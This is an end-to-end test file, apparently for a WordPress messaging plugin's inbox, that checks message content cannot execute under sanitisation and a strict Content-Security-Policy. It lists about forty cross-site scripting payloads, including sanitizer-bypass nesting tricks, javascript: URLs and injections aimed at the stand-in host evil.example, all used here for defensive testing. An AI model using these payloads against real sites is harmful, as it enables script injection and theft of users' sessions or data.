/**
 * Nothing that a message can contain runs, also where somebody else wrote it into the table; and the inbox works
 * under a strict Content-Security-Policy.
 */

import assert from 'node:assert/strict';
import { test } from 'node:test';
import { launch, members, muPlugin, php, rest, signedIn, until } from '../harness.mjs';
import { INBOX, openInbox } from './inbox.mjs';

/** Every one of them calls hit() where it runs, or asks evil.example for something. */
const ATTACKS = [
	'<script>hit()</script>after',
	'<script src="https://evil.example/a.js"></script>after',
	'<img src=x onerror=hit()>after',
	'<img src="https://evil.example/a.png">after',
	'<svg onload=hit()><circle r=9></svg>after',
	'<svg><script>hit()</script></svg>after',
	'<svg><a xlink:href="javascript:hit()"><text y=20>after</text></a></svg>after',
	'<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=hit()>#x"></svg>after',
	'<svg><animate onbegin=hit() attributeName=x dur=1s></svg>after',
	'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=hit()&gt;">',
	'<form><math><mtext></form><form><mglyph><style></math><img src onerror=hit()>',
	'<noscript><p title="</noscript><img src=x onerror=hit()>">',
	'<template><img src=x onerror=hit()></template>after',
	'<style>@import "https://evil.example/a.css"; * { display: none !important; }</style>after',
	'<link rel=stylesheet href="https://evil.example/a.css">after',
	'<p style="position:fixed;inset:0;background:red;z-index:9999">after</p>',
	'<p class="app" id="confirm-title" part="app">after</p>',
	'<iframe src="https://evil.example/"></iframe>after',
	'<iframe srcdoc="<script>parent.hit()</script>"></iframe>after',
	'<object data="https://evil.example/a"></object><embed src="https://evil.example/b">after',
	'<form action="https://evil.example/"><input name=a autofocus onfocus=hit()><button formaction="javascript:hit()">after</button></form>',
	'<details open ontoggle=hit()><summary>after</summary></details>',
	'<video src=x onerror=hit()></video><audio src=x onerror=hit()></audio>after',
	'<body onload=hit()>after',
	'<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=https://evil.example/">after',
	'<a href="javascript:hit()">after</a>',
	'<a href="java&#x0A;script:hit()">after</a>',
	'<a href=" &#14; javascript:hit()">after</a>',
	'<a href="data:text/html,<script>hit()</script>">after</a>',
	'<a href="vbscript:hit()">after</a>',
	'<a href="https://user:secret@evil.example/">after</a>',
	'<a href="https://example.org/" onclick="hit()" onmouseover=hit() target=_self ping="https://evil.example/">after</a>',
	'<jetonomy-messages data-config="{}"></jetonomy-messages>after',
	'<slot name=x onslotchange=hit()></slot>after',
	'&lt;img src=x onerror=hit()&gt;after',
	'<!--><img src=x onerror=hit()>-->after',
	'<p>' + '<blockquote>'.repeat( 600 ) + 'after',
	'<select><style></select><img src=x onerror=hit()></style></select>after',
	'<xmp><p title="</xmp><img src=x onerror=hit()>">after',
];

/** What the shown content may consist of. */
const ELEMENTS = [ 'P', 'BR', 'STRONG', 'EM', 'U', 'S', 'DEL', 'CODE', 'PRE', 'BLOCKQUOTE', 'UL', 'OL', 'LI', 'A' ];
const ATTRIBUTES = [ 'href', 'rel', 'target', 'tabindex', 'start', 'dir' ];

/** What is in the bubbles that should not be. */
const foreign = ( log, elements, attributes ) => log.evaluate( ( root, allowed ) => {
	const found = [];
	for ( const element of root.querySelectorAll( '.bubble *' ) ) {
		if ( ! allowed.elements.includes( element.tagName ) ) {
			found.push( element.outerHTML );
		}
		for ( const { name, value } of element.attributes ) {
			if ( ! allowed.attributes.includes( name ) || ( name === 'href' && ! /^(https?|mailto):/.test( value ) ) ) {
				found.push( `${ name }=${ value }` );
			}
		}
	}
	return found;
}, { elements, attributes } );

/** Tells a page what hit() is, and notes what asks evil.example. */
async function guard( page ) {
	const asked = [];
	await page.addInitScript( () => {
		window.hits = 0;
		window.hit = () => window.hits++;
	} );
	await page.route( /evil\.example/, ( route ) => {
		asked.push( route.request().url() );
		return route.abort();
	} );
	return async () => {
		assert.equal( await page.evaluate( () => window.hits ), 0, 'nothing ran' );
		assert.deepEqual( asked, [], 'nothing was asked for' );
	};
}

test( 'nothing in a message runs', async ( t ) => {
	const browser = await launch( t );
	const [ one, two ] = await members( 2 );
	const mine = await signedIn( browser, one.login );
	const messages = ATTACKS.map( ( html ) => [ two.id, html ] );
	const [ id ] = JSON.parse( await php( 'e2e/site/wordpress/conversations.php', JSON.stringify( [ { people: [ two.id, one.id ], messages } ] ) ) );
	const there = async ( count ) => ( await rest( mine, 'GET', `jetonomy/v1/conversations/${ id }` ) ).body.message_count === count;
	await until( 'the service has taken in the rows', () => there( ATTACKS.length ) );
	let harmless;
	const me = await openInbox( mine, `${ id }/`, { before: async ( page ) => {
		harmless = await guard( page );
	} } );

	await t.test( 'that was written into the table', async () => {
		await me.log.getByRole( 'article' ).nth( ATTACKS.length - 1 ).waitFor();
		// A text is not lost to its readers because of what stood before it.
		assert.equal( await me.sent( 'after' ).count(), ATTACKS.filter( ( html ) => html.includes( 'after' ) ).length );
		assert.deepEqual( await foreign( me.log, ELEMENTS, ATTRIBUTES ), [] );
		await harmless();
		await me.look( 'attacks' );
	} );

	await t.test( 'where every link is followed as far as it leads', async () => {
		for ( const link of await me.log.getByRole( 'link' ).all() ) {
			// A picture has become a link to it, which nobody has to follow.
			assert.match( await link.getAttribute( 'href' ), /^https:\/\/(example\.org\/|evil\.example\/a\.png)$/ );
			assert.match( await link.getAttribute( 'rel' ), /noopener/ );
			await link.hover();
		}
		await harmless();
	} );

	await t.test( 'that the API passes on as it is', async () => {
		// As if the service had let all of it through: the inbox's own wall.
		await me.page.route( /\/conversations\/\d+\/messages\?/, async ( route ) => {
			const answer = await route.fetch();
			const body = await answer.json();
			body.data.forEach( ( message, n ) => {
				message.content = ATTACKS[ n % ATTACKS.length ];
			} );
			await route.fulfill( { response: answer, json: body } );
		} );
		await me.go( `${ id }/` );
		await me.log.getByRole( 'article' ).nth( ATTACKS.length - 1 ).waitFor();
		assert.deepEqual( await foreign( me.log, ELEMENTS, ATTRIBUTES ), [] );
		await harmless();
		await me.page.unroute( /\/conversations\/\d+\/messages\?/ );
		await me.go( `${ id }/` );
	} );

	await t.test( 'that is typed, which arrives as it was typed', async () => {
		for ( const text of [ '<img src=x onerror=hit()>', '<script>hit()</script>', '[click](javascript:hit())', '**<b onmouseover=hit()>bold</b>**', '`<i>` & "quotes"' ] ) {
			await me.write( text );
			await me.page.waitForFunction( ( gone ) => ! document.querySelector( 'jetonomy-messages' ).shadowRoot.querySelector( '.outgoing' ) || gone === null, text );
		}
		await me.sent( '<img src=x onerror=hit()>' ).and( me.page.locator( '.own' ) ).waitFor();
		await me.sent( '<script>hit()</script>' ).and( me.page.locator( '.own' ) ).waitFor();
		await me.sent( '<i> & "quotes"' ).waitFor();
		assert.equal( await me.message( 'click' ).getByRole( 'link', { name: 'click' } ).count(), 0 );
		assert.deepEqual( await foreign( me.log, ELEMENTS, ATTRIBUTES ), [] );
		await harmless();
	} );

	await t.test( 'in names, titles and previews', async () => {
		const title = '<img src=x onerror=hit()>';
		await php( 'e2e/site/wordpress/conversations.php', JSON.stringify( [ { title, type: 'group', people: [ two.id, one.id ], messages: [ [ two.id, '<svg onload=hit()>Hello' ] ] } ] ) );
		await me.hint();
		await until( 'the group is in the list', async () => {
			await me.hint();
			return ( await me.titles() ).includes( title );
		} );
		await me.list.getByText( title ).click();
		await me.heading( title ).waitFor();
		await harmless();
	} );

	me.good();
} );

test( 'a strict Content-Security-Policy', async ( t ) => {
	const browser = await launch( t );
	const [ one, two ] = await members( 2 );
	const mine = await signedIn( browser, one.login );
	await muPlugin( t, 'strict-csp', '1', mine );
	const me = await openInbox( mine, '', {
		// WordPress's own inline styles and scripts, its import map among them.
		expected: [ /Content Security Policy/, /module specifier "@wordpress/ ],
		before: ( page ) => page.addInitScript( () => {
			window.ours = [];
			document.addEventListener( 'securitypolicyviolation', ( event ) => {
				const inside = event.composedPath().some( ( node ) => node.localName?.startsWith( 'jetonomy-' ) );
				// Fonts are the page's, though a script is named that was the first to ask how large something is.
				if ( inside || ( event.sourceFile.includes( 'messages.js' ) && event.violatedDirective !== 'font-src' ) ) {
					window.ours.push( `${ event.violatedDirective } ${ event.blockedURI } ${ event.sourceFile }:${ event.lineNumber }:${ event.columnNumber } ${ event.sample }` );
				}
			} );
		} ),
	} );
	const none = async () => assert.deepEqual( await me.page.evaluate( () => window.ours ), [] );

	assert.match( ( await me.page.request.get( me.page.url() ) ).headers()[ 'content-security-policy' ], /script-src 'self'/ );
	await me.newMessage.click();
	await me.addRecipient( two );
	await me.composer.fill( 'Hello' );
	await me.composer.press( 'Enter' );
	await me.sent( 'Hello' ).waitFor();
	await me.row( two.name ).waitFor();
	const box = await me.row( two.name ).boundingBox();
	assert.ok( box.height > 40, 'styles work' );
	await me.choose( 'Mute' );
	await me.toastSays( 'Muted.' );
	await me.choose( `Block ${ two.name }` );
	await me.confirm( 'Cancel' );
	await none();

	// Rows are placed one below the other.
	const [ , three, four ] = await members( 4 );
	for ( const { id } of [ three, four ] ) {
		await rest( mine, 'POST', 'jetonomy/v1/conversations', { recipients: [ id ], message: 'Hello' } );
	}
	await me.go();
	await me.list.getByRole( 'listitem' ).nth( 2 ).waitFor();
	const tops = await me.list.getByRole( 'listitem' ).evaluateAll( ( all ) => all.map( ( row ) => row.getBoundingClientRect().top ) );
	assert.equal( new Set( tops ).size, 3, `rows at ${ tops }` );
	await me.look( 'strict-csp' );
	await none();
	me.good();
} );

test( 'what stands in the place of an erased message is in the reader’s language', async ( t ) => {
	const browser = await launch( t );
	const [ one, two ] = await members( 2 );
	const mine = await signedIn( browser, one.login );
	const erased = '<p dir="auto"><em>Message deleted</em></p>';
	const [ id ] = JSON.parse( await php( 'e2e/site/wordpress/conversations.php', JSON.stringify( [ { people: [ two.id, one.id ], messages: [ [ two.id, erased ] ] } ] ) ) );
	await until( 'the service has taken in the row', async () => ( await rest( mine, 'GET', `jetonomy/v1/conversations/${ id }` ) ).body.message_count === 1 );
	const me = await openInbox( mine, `${ id }/`, { before: ( page ) => page.route( `**${ INBOX }*/`, async ( route ) => {
		const answer = await route.fetch();
		await route.fulfill( { response: answer, body: ( await answer.text() ).replace( /(erased&quot;:&quot;)[^&]*/, '$1Nachricht gelöscht' ) } );
	} ) } );
	await me.log.locator( 'em', { hasText: /^Nachricht gelöscht$/ } ).waitFor();
	me.good();
} );
